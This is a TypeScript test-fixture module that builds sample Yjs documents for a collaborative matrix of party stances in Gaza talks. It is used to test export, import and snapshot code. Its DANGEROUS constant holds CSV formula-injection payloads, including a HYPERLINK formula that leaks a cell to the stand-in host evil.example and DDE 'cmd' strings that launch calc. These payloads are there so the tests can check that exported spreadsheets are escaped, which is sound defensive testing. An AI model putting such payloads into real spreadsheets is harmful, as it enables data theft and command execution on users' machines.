/** Matrices for the export, import, compare and snapshot tests (not a test file itself). */
import * as Y from 'yjs';
import { buildDemoDoc, loadDemoData } from '../../server/seed.ts';
import { applyDemoData } from '../../shared/demo.ts';
import {
  addAxisItem,
  addSource,
  countMatrix,
  initMatrix,
  moveAxisItem,
  moveSource,
  readMatrix,
  setNote,
  setStance,
  updateSource,
} from '../../shared/matrix.ts';
import { setActor } from '../../shared/actor.ts';
import { addComment, setThreadResolved } from '../../shared/comments.ts';
import { SEED_ORIGIN } from '../../shared/origins.ts';
import type { MatrixData } from '../../shared/schema.ts';

export const EXPORTED_AT = new Date('2026-11-22T14:05:00.000Z');

/**
 * The demo data file. Its wording is still being edited, so tests take names, titles and counts
 * from it rather than repeating them.
 */
export const DEMO = loadDemoData();
export const demoName = (kind: 'parties' | 'issues', id: string): string => DEMO[kind].find((x) => x.id === id)?.name ?? id;
export const DEMO_COUNTS = {
  parties: DEMO.parties.length,
  issues: DEMO.issues.length,
  coded: DEMO.cells.filter((c) => c.stance).length,
  sources: DEMO.cells.reduce((n, c) => n + c.sources.length, 0),
};

/** Counts of the demo as the server seeds it (the data and its timeline, whose positions add sources). */
export const SEEDED_DEMO_COUNTS = (() => {
  const doc = buildDemoDoc();
  try {
    return countMatrix(doc);
  } finally {
    doc.destroy();
  }
})();

export function demoDoc(): Y.Doc {
  const doc = new Y.Doc();
  applyDemoData(doc, loadDemoData());
  return doc;
}

export function demoMatrix(): MatrixData {
  const doc = demoDoc();
  try {
    return readMatrix(doc);
  } finally {
    doc.destroy();
  }
}

/** Quotes that a spreadsheet would run as formulas if written raw into a CSV. */
export const DANGEROUS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3 said the minister',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
} as const;

/**
 * A small matrix with what the demo lacks: links, a moved party, sources reordered, a note-only
 * cell, a cell with sources but no stance, text with Markdown/CSV specials and formula starts.
 */
export function richDoc(): Y.Doc {
  const doc = new Y.Doc();
  const o = SEED_ORIGIN;
  initMatrix(doc, { title: 'Gaza talks, Genève 2026', description: 'Who wants | what *now*', createdAt: '2026-01-02T03:04:05.000Z' }, o);
  addAxisItem(doc, 'parties', { id: 'israel', name: 'Israel', description: 'Government of Israel' }, o);
  addAxisItem(doc, 'parties', { id: 'hamas', name: 'Hamas' }, o);
  addAxisItem(doc, 'parties', { id: 'egypt', name: 'Égypte' }, o);
  addAxisItem(doc, 'parties', { id: 'qatar', name: '=Qatar' }, o);
  moveAxisItem(doc, 'parties', 'qatar', 0, o); // order keys no longer follow insertion
  addAxisItem(doc, 'issues', { id: 'ceasefire', name: 'Ceasefire' }, o);
  addAxisItem(doc, 'issues', { id: 'hostages', name: 'Hostages | prisoners' }, o);
  addAxisItem(doc, 'issues', { id: 'rafah', name: 'Rafah crossing' }, o);

  setStance(doc, 'israel', 'ceasefire', 'conditional', o);
  setNote(doc, 'israel', 'ceasefire', 'Only after *all* hostages return.\nSecond line.', o);
  const at = '2026-01-05T10:00:00.000Z';
  addSource(
    doc,
    'israel',
    'ceasefire',
    {
      id: 'src-a',
      quote: DANGEROUS.hyperlink,
      speaker: 'Spokesperson',
      document: 'Briefing',
      date: '2026-01-04',
      link: 'https://example.org/a?b=1&c=2',
      addedBy: 'Ana',
      addedAt: at,
    },
    o,
  );
  addSource(
    doc,
    'israel',
    'ceasefire',
    { id: 'src-b', quote: DANGEROUS.plus, speaker: '-Minister', document: '@Doc', date: '', link: 'http://example.com/x', addedBy: 'Ana', addedAt: at },
    o,
  );
  addSource(
    doc,
    'israel',
    'ceasefire',
    { id: 'src-c', quote: 'Plain “quote”, with a comma', speaker: 'S', document: 'D', date: '2026-01-03', link: '', addedBy: 'Ben', addedAt: at },
    o,
  );
  moveSource(doc, 'src-c', 0, o);
  setStance(doc, 'hamas', 'hostages', 'rejects', o);
  addSource(
    doc,
    'hamas',
    'hostages',
    { id: 'src-d', quote: DANGEROUS.minus, speaker: 'Official', document: 'Statement | 2', date: '2026-01-06', link: '', addedBy: 'Ben', addedAt: at },
    o,
  );
  addSource(doc, 'hamas', 'ceasefire', { id: 'src-e', quote: DANGEROUS.at, speaker: '', document: '', date: '', link: '', addedBy: 'Ben', addedAt: at }, o); // sources, no stance
  setNote(doc, 'egypt', 'rafah', '\tTab-led note', o); // note only
  setStance(doc, 'qatar', 'ceasefire', 'demands', o); // stance only
  setStance(doc, 'egypt', 'ceasefire', 'no-position', o);
  // Edits by a person leave history; comments and a resolved thread.
  setActor(doc, { name: 'Ana', id: 'ana-1' });
  setStance(doc, 'hamas', 'rafah', 'sceptical');
  setStance(doc, 'hamas', 'rafah', 'opposes');
  updateSource(doc, 'src-d', { speaker: 'Senior official' });
  const root = addComment(doc, 'israel', 'ceasefire', 'Is the second quote verbatim?');
  addComment(doc, 'israel', 'ceasefire', 'Yes, checked against the transcript.', { parent: root });
  setThreadResolved(doc, root, true);
  addComment(doc, 'hamas', 'hostages', 'Needs a second source | please');
  return doc;
}

export function richMatrix(): MatrixData {
  const doc = richDoc();
  try {
    return readMatrix(doc);
  } finally {
    doc.destroy();
  }
}

/** Number of sources in a matrix. */
export const sourceCount = (m: MatrixData) => m.cells.reduce((n, c) => n + c.sources.length, 0);
